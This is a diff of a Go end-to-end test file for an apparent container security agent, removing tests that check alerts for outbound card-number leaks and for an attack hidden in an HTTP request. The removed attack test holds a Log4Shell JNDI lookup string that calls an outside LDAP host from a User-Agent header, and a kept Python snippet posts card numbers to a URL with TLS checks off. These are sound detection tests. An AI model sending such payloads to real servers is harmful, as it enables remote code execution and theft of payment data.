@@ -6,8 +6,6 @@ import (
 	"bytes"
 	"fmt"
 	"io/fs"
-	"net"
-	"net/http"
 	"os"
 	"path/filepath"
 	"slices"
@@ -36,35 +34,6 @@ body = "".join("card %s\n" % c for c in cards).encode()
 context = ssl._create_unverified_context()
 answer = urllib.request.urlopen(urllib.request.Request(sys.argv[1], data=body), context=context).read().decode()
 print(answer, *cards)`
-
-// TestSensitiveDataIsTold has a container send card numbers, plain and over TLS: the alert names who sent what where, and
-// neither it nor anything else that leaves the agent holds a number.
-func TestSensitiveDataIsTold(t *testing.T) {
-	const address = "203.0.113.9"
-	r := startRig(t, rig.Config{AgentArgs: []string{"--dlp-mode", "monitor"}})
-	if err := r.Lab.Load(t.Context(), lab.Python); err != nil {
-		t.Fatal(err)
-	}
-	webSink(t, r, address)
-	pod := runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "sender"})
-	c := run(t, pod, lab.ContainerConfig{Name: "app", Image: lab.PythonImage, Command: []string{"sleep", "100000"}})
-	var numbers []string
-	for _, way := range []struct{ url, source string }{{"http://" + address + "/orders?a=1", "packet"}, {"https://" + address + "/orders", "openssl"}} {
-		t.Run(way.source, func(t *testing.T) {
-			var told *view.Alert
-			told, numbers = sendCards(t, r, c, way.url, way.source)
-			f := told.Finding
-			if f.Class != "card" || f.Distinct < 5 || len(f.Masked) == 0 || f.Part != "body" || f.Method != "POST" || f.Path != "/orders" || f.Direction != "outbound" {
-				t.Errorf("finding %+v", f)
-			}
-			if told.Workload.Name != "sender" || told.Container.Name != "app" || !strings.Contains(told.Process.Exe, "python") || told.Event.Network.RemoteAddress != address {
-				t.Errorf("alert %+v", told)
-			}
-			t.Log(told.Output)
-		})
-	}
-	holdsNone(t, r.Dir, numbers)
-}
 
 // sendCards has a container send card numbers until there is an alert that was found in that source, and gives it with the
 // numbers.
@@ -123,55 +92,4 @@ func holders(t *testing.T, dir, word string) []string {
 		t.Fatal(err)
 	}
 	return paths
-}
-
-// TestAttackInARequestIsTold sends requests to a web server in a container: ordinary ones, of which nothing is told, and one
-// that holds an attack.
-func TestAttackInARequestIsTold(t *testing.T) {
-	r := startRig(t, rig.Config{AgentArgs: []string{"--waf-mode", "monitor"}})
-	if err := r.Lab.Load(t.Context(), lab.Nginx); err != nil {
-		t.Fatal(err)
-	}
-	pod := runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "web"})
-	run(t, pod, lab.ContainerConfig{Name: "nginx", Image: lab.NginxImage})
-	if err := pod.AwaitPort(t.Context(), lab.NginxPort); err != nil {
-		t.Fatal(err)
-	}
-	client := &http.Client{Transport: &http.Transport{DialContext: r.Lab.DialContext, DisableKeepAlives: true}}
-	get := func(agent string) {
-		t.Helper()
-		q, err := http.NewRequestWithContext(t.Context(), http.MethodGet, fmt.Sprintf("http://%s/?q=tea+and+o%%27brien", net.JoinHostPort(pod.IPs[0].String(), fmt.Sprint(lab.NginxPort))), nil)
-		if err != nil {
-			t.Fatal(err)
-		}
-		q.Header.Set("User-Agent", agent)
-		answer, err := client.Do(q)
-		if err != nil {
-			t.Fatal(err)
-		}
-		_ = answer.Body.Close()
-	}
-	for range 20 {
-		get("Mozilla/5.0 (X11; Linux x86_64)")
-	}
-	var told []view.Alert
-	err := wait.For(t.Context(), time.Minute, func() error {
-		get("${${lower:j}ndi:ldap://203.0.113.66/a}")
-		var err error
-		told, err = r.Alerts(t.Context(), "--rule", "Attack in a request")
-		if err == nil && len(told) == 0 {
-			err = fmt.Errorf("no alert")
-		}
-		return err
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, a := range told {
-		f := a.Finding
-		if f == nil || f.Class != "log4shell" || f.Part != "header" || !strings.EqualFold(f.Name, "user-agent") || !f.Accepted || a.Container.Name != "nginx" || a.Process.Name != "nginx" {
-			t.Errorf("alert %+v, finding %+v", a, f)
-		}
-		t.Log(a.Output)
-	}
 }
